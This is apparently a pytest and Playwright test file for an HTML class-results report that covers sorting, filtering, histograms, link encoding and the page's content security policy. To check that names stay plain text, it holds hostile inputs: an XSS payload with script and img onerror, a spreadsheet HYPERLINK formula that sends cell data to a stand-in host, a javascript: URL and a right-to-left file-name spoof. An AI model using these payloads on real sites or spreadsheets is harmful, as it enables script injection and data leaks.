"""The class on one page: what it says, and how it is worked with in a real browser."""

from __future__ import annotations

import re
from typing import TYPE_CHECKING, Any

import pytest

from kit.report.overview import Row, page

if TYPE_CHECKING:
    from collections.abc import Callable

    from playwright.sync_api import Page

MARKUP = "</script><img src=http://198.18.0.9/x onerror=document.title='owned'><script>document.title='owned'</script>"
FORMULA = '=HYPERLINK("http://198.18.0.9/?"&A1,"x")'
OVERRIDE = "user\u202etxt.exe"
PASS, FAIL, OPEN, SKIPPED = "pass", "fail", "inconclusive", "skipped"


def row(
    student: str, outcome: str = PASS, score: float = 4, checks: dict[str, str] | None = None, **rest: Any
) -> Row:
    values: dict[str, Any] = {
        "name": student.title(),
        "section": "A",
        "max_score": 4,
        "href": f"{student}.html",
        "note": "",
    } | rest
    return Row(student=student, outcome=outcome, score=score, checks=checks or {}, **values)


CLASS = (
    row("bob", FAIL, 1, {"handshake": PASS, "queue": FAIL, "order": SKIPPED}),
    row("alice", PASS, 4, {"handshake": PASS, "queue": PASS, "order": PASS}, section="B"),
    row("carol", FAIL, 3, {"handshake": PASS, "queue": PASS, "order": FAIL}, note="words of bob seen"),
    row("dan", OPEN, 2, {"handshake": PASS, "queue": OPEN, "order": PASS}),
    row("erin", "", 0, max_score=0, href="", note="handed in nothing"),
    row("s10", FAIL, 0.5, {"handshake": FAIL, "queue": FAIL, "order": FAIL}, name="张三"),
    row("s9", FAIL, 0, {"handshake": FAIL, "queue": FAIL, "order": SKIPPED}),
)


def cells(text: str) -> list[list[str]]:
    body = text[text.index('id="table"') :]
    rows = re.findall(r"<tr data-outcome.*?</tr>", body)
    return [[re.sub(r"<[^>]*>", "", cell) for cell in re.findall(r"<t[hd].*?</t[hd]>", one)] for one in rows]


def test_a_student_is_a_row_with_a_column_a_check() -> None:
    assert cells(page(CLASS, "The class", "en"))[0] == [
        "bob", "Bob", "A", "failed", "1/4", "✓passed", "✗failed", "–skipped", "",
    ]  # fmt: skip


def test_who_handed_in_nothing_has_no_score_no_marks_and_no_link() -> None:
    text = page(CLASS, "The class", "en")
    assert cells(text)[4] == ["erin", "Erin", "A", "–", "", "", "", "", "handed in nothing"]
    assert "erin.html" not in text
    assert 'href="bob.html"' in text


def test_sections_are_a_column_where_there_are_any() -> None:
    text = page([row("bob", section="")], "x", "en")
    assert cells(text)[0] == ["bob", "Bob", "passed", "4/4", ""]


def test_it_counts_the_outcomes() -> None:
    text = re.sub(r"<[^>]*>", "", page(CLASS, "x", "en"))
    assert "7 students · inconclusive 1 · failed 4 · passed 1 · not judged 1" in text


def test_a_step_that_one_missed_is_no_step_that_all_missed() -> None:
    missed = row("bob", FAIL, 0, {"timeline": FAIL, "handshake": SKIPPED})
    told = page([row("al", PASS, 5, {"handshake": PASS}), missed], "tcp", "en")
    assert "1 of 2 failed" in told
    assert "1 of 1 failed" not in told


def test_the_check_that_most_failed_is_first_and_all_who_were_judged_count() -> None:
    text = page(CLASS, "x", "en")
    stuck = re.findall(r'data-check="(\w+)".*?>(\w+)</button>.*?width="([\d.]+)".*?(\d+ of \d+ failed)', text)
    assert stuck == [
        ("c1", "queue", "50", "3 of 6 failed"),
        ("c0", "handshake", "33.33", "2 of 6 failed"),
        ("c2", "order", "33.33", "2 of 6 failed"),
    ]


def test_a_finding_that_few_have_is_counted_among_all() -> None:
    text = page([*CLASS, row("late", FAIL, 0, {"timeline": FAIL})], "x", "en")
    assert re.findall(r"timeline</button>.*?(\d+ of \d+ failed)", text) == ["1 of 7 failed"]


def test_the_histogram_counts_what_was_judged_by_tenths() -> None:
    (said,) = re.findall(r'role="img" aria-label="([^"]*)"', page(CLASS, "x", "en"))
    assert said == "0–9 %: 1; 10–19 %: 1; 20–29 %: 1; 70–79 %: 1; 100 %: 1; "


@pytest.mark.parametrize(
    ("score", "label"), [(0, "0–9"), (0.3, "30–39"), (0.7, "70–79"), (0.999, "90–99"), (1, "100")]
)
def test_a_score_is_in_its_tenth_whatever_its_fraction_is_in_binary(score: float, label: str) -> None:
    (said,) = re.findall(
        r'role="img" aria-label="([^"]*)"', page([row("a", FAIL, score, max_score=1)], "x", "en")
    )
    assert said == f"{label} %: 1; "


def test_a_class_of_nobody_has_a_page() -> None:
    text = page([], "nobody", "zh")
    assert "0 名学生" in text
    assert 'class="stuck"' not in text


@pytest.mark.parametrize(
    ("href", "link"),
    [
        ("alice/run 1#%/report.html", "alice/run%201%23%25/report.html"),
        ("javascript:alert(1)", "javascript%3Aalert%281%29"),
        ("https://198.18.0.9/x", "https%3A//198.18.0.9/x"),
        ("//198.18.0.9/x", None),
        ('"><script>', "%22%3E%3Cscript%3E"),
        ("张三.html", "%E5%BC%A0%E4%B8%89.html"),
    ],
)
def test_a_link_is_a_path_beside_the_page_and_nothing_else(href: str, link: str | None) -> None:
    found = re.findall(r'<a href="([^"#][^"]*)"', page([row("bob", href=href)], "x", "en"))
    assert found == ([] if link is None else [link])


def test_the_policy_lets_only_its_own_blocks_run() -> None:
    text = page(CLASS, "x", "en")
    (policy,) = re.findall(r'Content-Security-Policy" content="([^"]+)"', text)
    assert policy.startswith("default-src &#39;none&#39;; script-src &#39;sha256-")
    assert " style=" not in text
    assert not re.search(r" on\w+=", text)


def test_strangers_text_never_becomes_markup() -> None:
    text = page(
        [row(MARKUP, name=MARKUP, section=MARKUP, note=MARKUP, outcome=MARKUP, checks={MARKUP: MARKUP})],
        MARKUP,
        "en",
    )
    assert text.count("<script>") == 1
    assert "<img" not in text


# ---- in a browser ----


def students(tab: Page) -> list[str]:
    """Give whom the table shows, in its order."""
    return tab.locator("#table tbody tr:visible th").all_inner_texts()


def head(tab: Page, name: str) -> Any:
    return tab.locator("#table thead th").filter(has_text=re.compile(f"^{name}"))


@pytest.fixture
def tab(open_page: Callable[..., Any]) -> Page:
    found: Page = open_page(page(CLASS, "The class", "en")).page
    return found


@pytest.mark.browser
def test_a_column_sorts_both_ways_and_says_so(tab: Page) -> None:
    head(tab, "student").get_by_role("button").click()
    assert students(tab) == ["alice", "bob", "carol", "dan", "erin", "s9", "s10"]  # 9 is before 10
    assert head(tab, "student").get_attribute("aria-sort") == "ascending"
    head(tab, "student").get_by_role("button").click()
    assert students(tab)[0] == "s10"
    assert head(tab, "student").get_attribute("aria-sort") == "descending"
    head(tab, "score").get_by_role("button").click()
    assert head(tab, "student").get_attribute("aria-sort") is None
    assert students(tab) == ["s9", "s10", "bob", "dan", "carol", "alice", "erin"]  # who has none is last
    head(tab, "score").get_by_role("button").click()
    assert students(tab) == ["alice", "carol", "dan", "bob", "s10", "s9", "erin"]


@pytest.mark.browser
@pytest.mark.parametrize(
    ("column", "first"), [("queue", "dan"), ("outcome", "erin"), ("note", "erin"), ("section", "bob")]
)
def test_every_column_sorts(tab: Page, column: str, first: str) -> None:
    head(tab, column).get_by_role("button").click()
    assert students(tab)[0] == first


@pytest.mark.browser
@pytest.mark.parametrize(
    ("words", "found"),
    [
        ("ALICE", ["alice"]),
        ("张三", ["s10"]),
        ("words bob", ["carol"]),
        ("nobody", []),
        ("", ["bob", "alice", "carol", "dan", "erin", "s10", "s9"]),
    ],
)
def test_a_search_shows_whom_all_its_words_fit(tab: Page, words: str, found: list[str]) -> None:
    tab.locator("#search").fill(words)
    assert students(tab) == found
    assert tab.locator("#shown").inner_text() == f"{len(found)} of 7 shown"


@pytest.mark.browser
def test_filters_hold_together_and_are_taken_back(tab: Page) -> None:
    tab.locator("#outcome").select_option("fail")
    assert students(tab) == ["bob", "carol", "s10", "s9"]
    tab.locator("#failed").select_option(label="handshake")
    assert students(tab) == ["s10", "s9"]
    tab.locator("#search").fill("s10")
    assert students(tab) == ["s10"]
    tab.get_by_role("button", name="Show all").click()
    from playwright.sync_api import expect  # noqa: PLC0415  # only who has a browser has it

    expect(tab.locator("#table tbody tr:not([hidden])")).to_have_count(
        7
    )  # the page's policy lets no test evaluate


@pytest.mark.browser
def test_a_bar_shows_who_failed_that_check(tab: Page) -> None:
    tab.locator("#search").fill("alice")
    tab.get_by_role("button", name="order", exact=True).first.click()
    assert students(tab) == ["carol", "s10"]
    assert tab.locator("#failed").input_value() == "c2"


@pytest.mark.browser
def test_the_keyboard_reaches_and_sorts(tab: Page) -> None:
    tab.locator("#search").focus()
    for _ in range(4):
        tab.keyboard.press("Tab")
    while tab.evaluate("document.activeElement.tagName") != "BUTTON":
        tab.keyboard.press("Tab")
    tab.keyboard.press("Enter")
    assert students(tab)[:2] == ["alice", "bob"]


@pytest.mark.browser
def test_enter_in_the_search_leaves_the_page_where_it_is(tab: Page) -> None:
    url = tab.url
    tab.locator("#search").fill("bob")
    tab.keyboard.press("Enter")
    assert (tab.url, students(tab)) == (url, ["bob", "carol"])


@pytest.mark.browser
def test_a_students_page_is_a_link_away(open_page: Callable[..., Any], tmp_path: Any) -> None:
    (tmp_path / "张 三#1").mkdir()
    (tmp_path / "张 三#1" / "100%.html").write_text("<title>his page</title>", encoding="utf-8")
    tab = open_page(page([row("bob", href="张 三#1/100%.html")], "x", "en")).page
    tab.get_by_role("link", name="bob").click()
    tab.wait_for_function("() => document.title === 'his page'")


@pytest.mark.browser
def test_hostile_names_stay_text(open_page: Callable[..., Any]) -> None:
    names = [MARKUP, FORMULA, OVERRIDE, "\x1b]8;;http://198.18.0.9\x07", "'\"`${7*7}{{7*7}}"]
    rows = [row(name, FAIL, 1, {"queue": FAIL}, name=name, note=name, section=name) for name in names]
    tab = open_page(page(rows, MARKUP, "en")).page
    assert tab.title() == MARKUP
    assert tab.locator("img").count() == 0
    assert students(tab)[:3] == [MARKUP, FORMULA, "user\\u202etxt.exe"]
    head(tab, "name").get_by_role("button").click()
    tab.locator("#search").fill("hyperlink")
    assert students(tab) == [FORMULA]


@pytest.mark.browser
@pytest.mark.parametrize("lang", ["en", "zh"])
@pytest.mark.parametrize("width", [360, 1280])
def test_a_class_of_300_opens_and_never_scrolls_sideways(
    open_page: Callable[..., Any], lang: str, width: int
) -> None:
    checks = {f"a_check_with_a_long_name_{number}": FAIL for number in range(15)}
    rows = [row(f"s{number:03}", FAIL, number % 5, checks) for number in range(300)]
    text = page(rows, "300", lang)
    assert len(text.encode()) < 1_000_000
    tab = open_page(text, width=width).page
    assert tab.evaluate("document.documentElement.scrollWidth") <= width
    tab.locator("#search").fill("s299")
    assert students(tab) == ["s299"]


@pytest.mark.browser
def test_it_prints_the_table_without_its_tools(tab: Page) -> None:
    tab.emulate_media(media="print")
    assert not tab.locator("#tools").is_visible()
    assert tab.evaluate("getComputedStyle(document.body).backgroundColor") == "rgb(255, 255, 255)"
    assert students(tab)[0] == "bob"
